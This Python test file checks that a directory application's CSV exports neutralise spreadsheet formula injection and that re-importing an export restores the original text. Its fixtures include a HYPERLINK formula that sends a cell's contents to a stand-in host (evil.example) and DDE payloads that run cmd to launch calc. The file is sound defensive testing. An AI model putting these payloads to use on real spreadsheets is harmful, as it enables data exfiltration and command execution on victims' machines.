"""CSV injection: provider text that a spreadsheet would run as a formula is exported as text
(a leading apostrophe) in every sheet we write, and importing our own export gives the text back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from knowledge.cli import main
from knowledge.models import Opportunity, Pathway, Topic
from knowledge.transfer.csv_cells import FORMULA_STARTS, neutralise, read_records, restore
from knowledge.transfer.pathways_csv import export_pathways, import_pathways
from knowledge.transfer.taxonomy_csv import export_taxonomy, import_taxonomy
from knowledge.writes import get_or_create_topic
from tests.knowledge.transfer.factories import (
    ACTOR,
    csv_text,
    empty_directory,
    export_text,
    import_rows,
    row,
)

LINK = '=HYPERLINK("https://evil.example/?d="&A2,"Click for details")'
RISKY = [
    LINK,
    "+1 (216) 555-0101",
    "-10% for siblings",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''@two apostrophes",
]
HARMLESS = ["", "'", "''", "Story Time", "'tis the season", "-81.642", "+3", "41.5", "a=b"]


@pytest.mark.parametrize("text", RISKY + HARMLESS)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_to_its_text(text: str) -> None:
    cell = neutralise(text)
    assert cell[:1] not in FORMULA_STARTS or cell.lstrip("+-").replace(".", "").isdigit()
    assert restore(cell) == text
    assert (cell != text) == (text in RISKY)


def test_a_sheet_saved_by_a_spreadsheet_that_dropped_the_apostrophe_reads_the_same() -> None:
    assert restore(LINK) == LINK and restore("Story Time") == "Story Time"


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The CLI pointed at a fresh, migrated SQLite directory; returns its folder."""
    monkeypatch.setenv("WAYFINDER_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    assert main(["db", "upgrade"]) == 0
    return tmp_path


def test_the_directory_export_writes_a_formula_title_as_text_and_reimports_it(
    cli_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    upload = cli_db / "upload.csv"
    upload.write_text(
        csv_text([row(title=LINK, cost_notes="-10% for siblings", contact_phone="+1 555 0101")]),
        encoding="utf-8",
    )
    assert main(["directory", "import", str(upload)]) == 0
    exported = cli_db / "export.csv"
    assert main(["directory", "export", "--format", "csv", "--output", str(exported)]) == 0
    text = exported.read_text(encoding="utf-8")
    (cells,) = csv.DictReader(io.StringIO(text))
    assert cells["title"] == "'" + LINK
    assert (cells["cost_notes"], cells["contact_phone"]) == ("'-10% for siblings", "'+1 555 0101")
    assert cells["longitude"] == "-81.642"  # a number stays a number

    monkeypatch.setenv("WAYFINDER_DATABASE_URL", f"sqlite:///{cli_db / 'again.db'}")
    assert main(["db", "upgrade"]) == 0
    assert main(["directory", "import", str(exported)]) == 0
    again = cli_db / "again.csv"
    assert main(["directory", "export", "--format", "csv", "--output", str(again)]) == 0
    assert again.read_text(encoding="utf-8") == text
    capsys.readouterr()


def test_a_listing_keeps_its_text_through_an_export_and_import(session: Session) -> None:
    import_rows(session, [row(title=LINK, description="@everyone: bring a laptop")])
    session.flush()
    text = export_text(session)
    assert "'=HYPERLINK(" in text
    empty_directory(session)
    report = import_rows(session, csv.DictReader(io.StringIO(text)))
    assert report.problems == []
    listing = session.scalars(select(Opportunity)).one()
    assert (listing.title, listing.description) == (LINK, "@everyone: bring a laptop")


def test_pathway_cells_are_neutralised_and_round_trip(session: Session) -> None:
    import_rows(session, [row(external_id="=cmd|' /C calc'!A0")])
    session.flush()
    sheet = io.StringIO()
    writer = csv.writer(sheet)
    writer.writerow(["pathway", "step", "listing", "credential", "min_age", "note"])
    writer.writerow([LINK, "+Start here", "=cmd|' /C calc'!A0", "", "", "@note"])
    report = import_pathways(session, sheet.getvalue().encode(), actor=ACTOR, name="paths.csv")
    assert report.problems == []
    session.flush()
    pathway = session.scalars(select(Pathway)).one()
    assert (pathway.name, pathway.steps[0].title, pathway.steps[0].note) == (
        LINK,
        "+Start here",
        "@note",
    )
    assert pathway.steps[0].opportunity is not None
    out = io.StringIO()
    export_pathways(session, out)
    (cells,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert cells == {
        "pathway": "'" + LINK,
        "step": "'+Start here",
        "listing": "'=cmd|' /C calc'!A0",
        "credential": "",
        "min_age": "",
        "career": "",
        "note": "'@note",
    }
    assert import_pathways(session, out.getvalue().encode(), actor=ACTOR).unchanged == 1


def test_taxonomy_cells_are_neutralised_and_round_trip(session: Session) -> None:
    get_or_create_topic(session, "=1+1", ACTOR)
    session.flush()
    sheet = "topic,synonyms\n=1+1,-plus; @at\n"
    report = import_taxonomy(session, sheet, actor=ACTOR)
    assert report.problems == [] and report.added == {"=1+1": ["-plus", "@at"]}
    session.flush()
    out = io.StringIO()
    export_taxonomy(session, out)
    (cells,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (cells["topic"], cells["synonyms"]) == ("'=1+1", "'-plus; @at")
    again = import_taxonomy(session, out.getvalue(), actor=ACTOR)
    assert again.problems == [] and again.added == again.removed == {}
    topic = session.scalars(select(Topic)).one()
    assert sorted(synonym.term for synonym in topic.synonyms) == ["-plus", "@at"]


def test_a_nul_is_refused_naming_its_line_on_every_python() -> None:
    """Python 3.10's csv reader refused a NUL; 3.11's passes it into the cell."""
    assert read_records("title\r\nok\n") == [["title"], ["ok"]]
    with pytest.raises(csv.Error, match=r"^near line 3: line contains NUL$"):
        read_records('title\nok\n"a\x00b"\n')
